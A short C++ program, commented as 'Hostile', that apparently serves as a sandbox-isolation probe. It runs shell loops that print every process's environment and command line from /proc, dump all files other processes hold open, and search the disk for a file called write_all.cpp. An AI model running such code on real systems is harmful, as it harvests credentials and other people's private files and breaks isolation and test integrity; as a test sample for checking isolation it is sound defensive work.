// Hostile: prints what others have: their environments, and the files that they have open or that it inherited.
#include <cstdlib>
int main() {
  std::system(
      "for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; done 2>/dev/null;"
      "for f in /proc/[0-9]*/fd/*; do [ -f $f ] && cat $f; done 2>/dev/null;"
      "find / \\( -path /usr -o -path /proc \\) -prune -o -name write_all.cpp -exec cat {} + "
      "2>/dev/null");
}
